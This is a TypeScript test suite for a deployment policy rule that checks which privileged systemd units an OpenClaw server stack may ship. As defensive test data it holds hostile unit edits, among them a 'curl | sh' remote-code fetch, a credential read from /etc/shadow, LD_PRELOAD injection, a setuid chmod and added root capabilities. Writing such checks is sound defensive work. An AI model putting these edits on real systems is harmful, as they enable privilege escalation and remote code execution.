import { describe, expect, it } from "vitest";
import { renderGatewayUnit, renderPodmanUsernsUnit } from "../../components/openclaw/systemd-unit";
import { renderStepCommand } from "../../components/remote/command-line";
import { maintenanceInputs, sandboxUsernsInputs } from "../../components/step-inputs";
import { renderMaintenanceUnits } from "../../components/openclaw/maintenance";
import { parseSettings } from "../../settings/load";
import { PROJECT } from "../../plan/capture";
import { baseValues, rawConfig } from "../fixtures/stack";
import { gatewayLayout } from "../../components/openclaw/layout";
import { base64, by, command, deployment, handBuilt, messages, remoteCommand, restep, sharedServer, violationsOf } from "./harness";

const RULE = "privileged-units-allowlisted";
const SANDBOXED_12 = { agentAccess: "sandboxed", image: "debian-12" };
const helper = renderPodmanUsernsUnit();
const gatewayUnit = renderGatewayUnit({ gatewayPort: 18789, agentAccess: "sandboxed", image: "debian-12" });

/** The hand-built deployment (settings `overrides`) plus the sandbox-userns step with some inputs changed. */
const withHelper = (inputs: Record<string, string> = {}, overrides: Record<string, unknown> = SANDBOXED_12) => () =>
  handBuilt({
    overrides,
    extra: (connection, after) => {
      const create = renderStepCommand("sandbox-userns", { ...sandboxUsernsInputs(), ...inputs }).command;
      return [{ resource: remoteCommand({ connection, create }, { dependsOn: [after] }, "sandbox-userns"), create }];
    },
  });
const helperUnit = (edit: (unit: string) => string) => withHelper({ OC_USERNS_UNIT_B64: base64(edit(helper)) });

/** The hand-built deployment (settings `overrides`) plus one step writing `content` to `path`. */
const withFile = (path: string, content: string, overrides: Record<string, unknown> = SANDBOXED_12) => () =>
  handBuilt({
    overrides,
    extra: (connection, after) => {
      const create = `echo ${base64(content)} | base64 -d | sudo tee ${path} >/dev/null`;
      return [{ resource: remoteCommand({ connection, create }, { dependsOn: [after] }, "unit-step"), create }];
    },
  });

describe(RULE, () => {
  it("passes the real deployment in both modes, and the Debian 12 sandbox with its helper unit", async () => {
    expect(by(await violationsOf(() => deployment()), RULE)).toEqual([]);
    expect(by(await violationsOf(() => deployment({ agentAccess: "sandboxed" })), RULE)).toEqual([]);
    expect(by(await violationsOf(() => deployment(SANDBOXED_12)), RULE)).toEqual([]);
    expect(by(await violationsOf(withHelper()), RULE)).toEqual([]);
  });

  it("passes a unit of another name that cannot gain privileges, and a timer or socket that runs nothing itself", async () => {
    const unit = "[Service]\nUser=nobody\nNoNewPrivileges=yes\nExecStart=/usr/bin/true\n";
    expect(by(await violationsOf(withFile("/etc/systemd/system/hello.service", unit)), RULE)).toEqual([]);
    expect(by(await violationsOf(withFile("/etc/systemd/system/hello.timer", "[Timer]\nOnCalendar=daily\n")), RULE)).toEqual([]);
    expect(by(await violationsOf(withFile("/etc/systemd/system/hello.socket", "[Socket]\nListenStream=127.0.0.1:9\n")), RULE)).toEqual([]);
  });

  it("refuses the helper written at the gateway unit's name", async () => {
    const v = await violationsOf(withHelper({ OC_USERNS_UNIT_NAME: "openclaw-gateway" }));
    expect(messages(v, RULE)).toContain("unit openclaw-gateway.service (step sandbox-userns, input OC_USERNS_UNIT_B64) puts a unit that does not run the gateway at the gateway unit's name");
    expect(by(v, RULE)[0].urn).toContain("sandbox-userns");
  });

  it.each<[string, (u: string) => string, string]>([
    ["as root", (u) => u.replace("User=openclaw", "User=root"), "it runs as 'root', not as the gateway's service user (openclaw)"],
    ["with no User=", (u) => u.replace("User=openclaw\n", ""), "runs as root (no User=)"],
    ["as the admin", (u) => u.replace("User=openclaw", "User=ops"), "it runs as 'ops', not as the gateway's service user"],
    ["in another group", (u) => u.replace("Group=openclaw", "Group=sudo"), "it runs in group 'sudo'"],
    ["a shell inside the namespace", (u) => u.replace("unshare /bin/true", "unshare /bin/sh -c 'id'"), "it runs '/usr/bin/podman unshare /bin/sh -c 'id''"],
    ["another program", (u) => u.replace("ExecStart=/usr/bin/podman unshare /bin/true", "ExecStart=/usr/local/bin/agent"), "it runs '/usr/local/bin/agent'"],
    ["podman with full privileges (+)", (u) => u.replace("ExecStart=/usr/bin/podman unshare /bin/true", "ExecStart=+/usr/bin/podman unshare /bin/true"), "it runs '+/usr/bin/podman unshare /bin/true'"],
    ["the user's own Podman configuration (writable by the gateway)", (u) => u.replace(/^Environment=CONTAINERS_CONF=.*\n/m, ""), "it does not set CONTAINERS_CONF to a file under /etc"],
    ["a Podman configuration in the user's home", (u) => u.replace(/^Environment=CONTAINERS_STORAGE_CONF=.*$/m, "Environment=CONTAINERS_STORAGE_CONF=/var/lib/openclaw/.config/containers/storage.conf"), "it does not set CONTAINERS_STORAGE_CONF to a file under /etc"],
    ["an ExecStartPre", (u) => u.replace("UMask=", "ExecStartPre=/bin/chmod 4755 /home/openclaw/x\nUMask="), "it sets ExecStartPre"],
    ["more capabilities", (u) => u.replace("CAP_DAC_OVERRIDE", "CAP_DAC_OVERRIDE cap_sys_ptrace"), "its bounding set holds cap_sys_ptrace"],
    ["a full bounding set", (u) => u.replace(/^CapabilityBoundingSet=.*\n/m, ""), "it leaves the capability bounding set full"],
    ["an inverted bounding set", (u) => u.replace(/^CapabilityBoundingSet=.*$/m, "CapabilityBoundingSet=~CAP_SYS_MODULE"), "keeps every capability but those listed"],
    ["ambient capabilities", (u) => u.replace("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_ADMIN"), "it sets ambient capabilities"],
    ["a preloaded library", (u) => u.replace("Environment=HOME", "Environment=LD_PRELOAD=/home/openclaw/x.so\nEnvironment=HOME"), "it sets LD_PRELOAD in its environment"],
    ["podman bound over by a file of the user's", (u) => u.replace("UMask=", "BindReadOnlyPaths=/home/openclaw/bin/podman:/usr/bin/podman\nUMask="), "it sets BindReadOnlyPaths, a setting the pack does not allow"],
  ])("refuses the helper unit %s", async (_, edit, expected) => {
    const v = await violationsOf(helperUnit(edit));
    expect(messages(v, RULE)).toContain(expected);
    expect(by(v, RULE)[0].urn).toContain("sandbox-userns");
  });

  it("refuses a unit that runs the gateway without NoNewPrivileges=yes, under any name", async () => {
    const loose = gatewayUnit.replace(/^NoNewPrivileges=.*\n/m, "");
    const v = await violationsOf(helperUnit(() => loose));
    expect(messages(v, RULE)).toContain("unit openclaw-podman-userns.service (step sandbox-userns, input OC_USERNS_UNIT_B64) runs the gateway and has no NoNewPrivileges=yes");
  });

  it("refuses the helper without an agent sandbox (chat) or on an image whose Podman needs none (debian-13)", async () => {
    const chat = messages(await violationsOf(withHelper({}, {})), RULE);
    expect(chat).toContain("the server runs no agent sandbox");
    expect(chat).toContain("gives subordinate ids where no sandbox helper is allowed (agent sandbox off, image debian-13)");
    const trixie = messages(await violationsOf(withHelper({}, { agentAccess: "sandboxed" })), RULE);
    expect(trixie).toContain("the server's image (debian-13) has a Podman that needs no setuid id mapping");
    expect(trixie).not.toContain("runs no agent sandbox");
  });

  it("refuses subordinate ids beyond one range, or for another user", async () => {
    expect(messages(await violationsOf(withHelper({ OC_SUBORDINATE_IDS: "999999999" })), RULE)).toContain("gives subordinate ids 999999999 of them (at most 65536)");
    expect(messages(await violationsOf(withHelper({ OC_SERVICE_USER: "ops" })), RULE)).toContain("gives subordinate ids to 'ops', not the gateway's service user");
  });

  it("refuses a later drop-in that adds a command to the helper", async () => {
    const v = await violationsOf(() =>
      handBuilt({
        overrides: SANDBOXED_12,
        extra: (connection, after) => {
          const userns = renderStepCommand("sandbox-userns", sandboxUsernsInputs()).command;
          const a = remoteCommand({ connection, create: userns }, { dependsOn: [after] }, "sandbox-userns");
          const dropIn = `echo ${base64("[Service]\nExecStartPost=/usr/bin/newuidmap 1 0 0 1\n")} | base64 -d | sudo tee /etc/systemd/system/openclaw-podman-userns.service.d/zz.conf >/dev/null`;
          return [{ resource: a, create: userns }, { resource: remoteCommand({ connection, create: dropIn }, { dependsOn: [a] }, "userns-tuning"), create: dropIn }];
        },
      }),
    );
    expect(messages(v, RULE)).toContain("it sets ExecStartPost");
    expect(by(v, RULE).some((x) => x.urn.includes("userns-tuning"))).toBe(true);
  });

  it("refuses a root unit of another name, and a drop-in that changes what a unit the stack does not ship runs", async () => {
    const root = "[Service]\nExecStart=/usr/bin/podman unshare /bin/true\n";
    expect(messages(await violationsOf(withFile("/etc/systemd/system/warmup.service", root)), RULE)).toContain("unit warmup.service (step 'unit-step' (create) (tee writes)) runs as root (no User=)");
    const dropIn = "[Service]\nUser=root\nExecStartPost=/usr/bin/podman unshare /bin/true\n";
    const v = await violationsOf(withFile("/etc/systemd/system/cron.service.d/podman.conf", dropIn));
    expect(messages(v, RULE)).toContain("changes User, ExecStartPost of a unit the stack does not ship");
  });

  it("applies prefix drop-ins (openclaw-.service.d) to every unit they reach, the gateway's too", async () => {
    const v = await violationsOf(withFile("/etc/systemd/system/openclaw-.service.d/zz-perf.conf", "[Service]\nAmbientCapabilities=CAP_SYS_ADMIN\n"));
    expect(messages(v, RULE)).toContain("unit openclaw-gateway.service (step 'unit-step' (create) (tee writes)) runs the gateway and has ambient capabilities");
    expect(messages(v, RULE)).toContain("changes AmbientCapabilities of a unit the stack does not ship");
  });
});

describe(`${RULE}: the maintenance units`, () => {
  const units = renderMaintenanceUnits();
  /** The hand-built deployment plus the maintenance step, with some units (by file name) replaced. */
  const withMaintenance = (replace: Record<string, string> = {}, more: { path: string; content: string }[] = []) => () =>
    handBuilt({
      extra: (connection, after) => {
        const settings = parseSettings(PROJECT, "dev", rawConfig(baseValues()));
        const create = renderStepCommand("maintenance", maintenanceInputs(settings, { ...units, ...replace })).command;
        const m = remoteCommand({ connection, create }, { dependsOn: [after] }, "maintenance");
        const extra = more.map((f, i) => {
          const text = `echo ${base64(f.content)} | base64 -d | sudo tee ${f.path} >/dev/null`;
          return { resource: remoteCommand({ connection, create: text }, { dependsOn: [m] }, `extra-${i}`), create: text };
        });
        return [{ resource: m, create }, ...extra];
      },
    });

  it("passes the maintenance step as the program renders it (three root jobs, their timers, the notifier)", async () => {
    expect(by(await violationsOf(withMaintenance()), RULE)).toEqual([]);
  });

  it.each<[string, string, (u: string) => string, string]>([
    ["a verification that runs something else", "openclaw-verify.service", (u) => u.replace(/^ExecStart=.*$/m, "ExecStart=/bin/sh -c 'curl -s https://x.example/p | sh'"), "it runs '/bin/sh -c 'curl"],
    ["a backup job with a looser umask", "openclaw-backup.service", (u) => u.replace("UMask=0077", "UMask=0022"), "unit openclaw-backup.service (step maintenance, input OC_BACKUP_SERVICE_B64) is not the maintenance unit the pack knows"],
    ["a notifier that reads another root file as its credential", "openclaw-notify@.service", (u) => u.replace(/^LoadCredential=.*$/m, "LoadCredential=notify-url:/etc/shadow"), "openclaw-notify@.service"],
    ["a timer that starts another unit", "openclaw-retention.timer", (u) => u.replace("Unit=openclaw-retention.service", "Unit=debug-shell.service"), "openclaw-retention.timer"],
  ])("refuses %s", async (_, name, edit, expected) => {
    const v = await violationsOf(withMaintenance({ [name]: edit(units[name]) }));
    expect(messages(v, RULE)).toContain(expected);
    expect(messages(v, RULE)).toContain("is not the maintenance unit the pack knows");
    expect(by(v, RULE)[0].urn).toContain("maintenance");
  });

  it("refuses the known unit text shipped by another step, at an instance of the notifier, or under a drop-in", async () => {
    const plain = messages(await violationsOf(withFile("/etc/systemd/system/openclaw-verify.service", units["openclaw-verify.service"], {})), RULE);
    expect(plain).toContain("unit openclaw-verify.service (step 'unit-step' (create) (tee writes)) is shipped by step 'unit-step' other than the maintenance step");
    const instance = messages(await violationsOf(withMaintenance({}, [{ path: "/etc/systemd/system/openclaw-notify@openclaw-verify.service.service", content: "[Service]\nExecStart=/bin/true\n" }])), RULE);
    expect(instance).toContain("unit openclaw-notify@openclaw-verify.service.service");
    const dropIn = messages(await violationsOf(withMaintenance({}, [{ path: "/etc/systemd/system/openclaw-backup.service.d/zz.conf", content: "[Service]\nUMask=0022\n" }])), RULE);
    expect(dropIn).toContain("drop-in /etc/systemd/system/openclaw-backup.service.d/zz.conf (step 'extra-0' (create) (tee writes)) applies to the maintenance unit(s) openclaw-backup.service");
  });

  it("refuses any other step writing what the root jobs run or read, or the backups (a verification that is not the gate)", async () => {
    for (const path of ["/usr/local/lib/openclaw-hetzner/gate.sh", "/etc/openclaw-hetzner/verify.env", "/usr/local/lib/openclaw-hetzner/backup.sh", "/var/backups/openclaw/scheduled-x.tar.gz"]) {
      const v = await violationsOf(withMaintenance({}, [{ path, content: "exit 0\n" }]));
      expect(messages(v, RULE), path).toContain(`writes ${path}, where only the maintenance step's and the deploy gate's reviewed scripts write`);
    }
  });
});

describe(`${RULE}: a shared server's maintenance units (each gateway's, named -<id>)`, () => {
  const alice = renderMaintenanceUnits(gatewayLayout("alice"));
  /** The shared server with alice's maintenance step shipping `units` (file name -> text) instead of its own. */
  const aliceShips = (units: Record<string, string>) => () => {
    const input: Record<string, string> = {
      "openclaw-verify-alice.service": "OC_VERIFY_SERVICE_B64",
      "openclaw-backup-alice.service": "OC_BACKUP_SERVICE_B64",
      "openclaw-retention-alice.timer": "OC_RETENTION_TIMER_B64",
    };
    sharedServer(undefined, { transformations: [restep("openclaw-alice-maintenance", Object.fromEntries(Object.entries(units).map(([n, t]) => [input[n], base64(t)])))] });
  };

  it("passes every gateway's jobs as the program renders them for its id, and the one notifier they share", async () => {
    expect(by(await violationsOf(() => sharedServer()), RULE)).toEqual([]);
  });

  it.each<[string, string, (u: string) => string]>([
    ["a backup job with a looser umask", "openclaw-backup-alice.service", (u) => u.replace("UMask=0077", "UMask=0022")],
    ["a verification that runs something else", "openclaw-verify-alice.service", (u) => u.replace(/^ExecStart=.*$/m, "ExecStart=/bin/sh -c 'curl -s https://x.example/p | sh'")],
    ["a backup job that writes bob's archives (bob's text at alice's name)", "openclaw-backup-alice.service", () => renderMaintenanceUnits(gatewayLayout("bob"))["openclaw-backup-bob.service"]],
    ["a timer that starts another unit", "openclaw-retention-alice.timer", (u) => u.replace("Unit=openclaw-retention-alice.service", "Unit=debug-shell.service")],
    ["the server's only gateway's job at alice's name", "openclaw-verify-alice.service", () => renderMaintenanceUnits()["openclaw-verify.service"]],
  ])("refuses %s", async (_, name, edit) => {
    const v = await violationsOf(aliceShips({ [name]: edit(alice[name]) }));
    expect(messages(v, RULE)).toContain(`unit ${name} (step maintenance, input `);
    expect(messages(v, RULE)).toContain("is not the maintenance unit the pack knows (policies/lib/known-maintenance-gateway.json, for gateway alice)");
    expect(by(v, RULE).map((x) => x.urn.split("::").pop())).toEqual(["openclaw-alice-maintenance"]);
  });

  it("refuses a gateway's known job text shipped by another step, under a drop-in, or at an id no maintenance step has", async () => {
    const after = (path: string, content: string) => () => {
      const d = sharedServer();
      const create = `echo ${base64(content)} | base64 -d | sudo tee ${path} >/dev/null`;
      new command.remote.Command("unit-step", { connection: { host: d.ipv4, user: "ops", privateKey: "k" }, create }, { dependsOn: [d.gateways[1].gateway.maintenance.command] });
    };
    const shipped = messages(await violationsOf(after("/etc/systemd/system/openclaw-verify-alice.service", alice["openclaw-verify-alice.service"])), RULE);
    expect(shipped).toContain("unit openclaw-verify-alice.service (step 'unit-step' (create) (tee writes)) is shipped by step 'unit-step' other than the maintenance step");
    const dropIn = messages(await violationsOf(after("/etc/systemd/system/openclaw-backup-alice.service.d/zz.conf", "[Service]\nUMask=0022\n")), RULE);
    expect(dropIn).toContain("drop-in /etc/systemd/system/openclaw-backup-alice.service.d/zz.conf (step 'unit-step' (create) (tee writes)) applies to the maintenance unit(s) openclaw-backup-alice.service");
    // The names of every id are the jobs' (carol has no gateway here): a unit there is a job or refused.
    const carol = renderMaintenanceUnits(gatewayLayout("carol"))["openclaw-verify-carol.service"];
    expect(messages(await violationsOf(after("/etc/systemd/system/openclaw-verify-carol.service", carol)), RULE)).toContain("is shipped by step 'unit-step' other than the maintenance step");
    const harmless = "[Service]\nUser=nobody\nNoNewPrivileges=yes\nExecStart=/usr/bin/true\n";
    expect(messages(await violationsOf(after("/etc/systemd/system/openclaw-backup-carol.service", harmless)), RULE)).toContain(
      "unit openclaw-backup-carol.service (step 'unit-step' (create) (tee writes)) is not the maintenance unit the pack knows (policies/lib/known-maintenance-gateway.json, for gateway carol)",
    );
  });

  it("refuses any other step writing a gateway's backups", async () => {
    const v = await violationsOf(() => {
      const d = sharedServer();
      const create = "echo x | sudo tee /var/backups/openclaw-bob/scheduled-x.tar.gz >/dev/null";
      new command.remote.Command("swap-archive", { connection: { host: d.ipv4, user: "ops", privateKey: "k" }, create }, { dependsOn: [d.gateways[1].gateway.maintenance.command] });
    });
    expect(messages(v, RULE)).toContain("writes /var/backups/openclaw-bob/scheduled-x.tar.gz, where only the maintenance step's and the deploy gate's reviewed scripts write");
  });
});
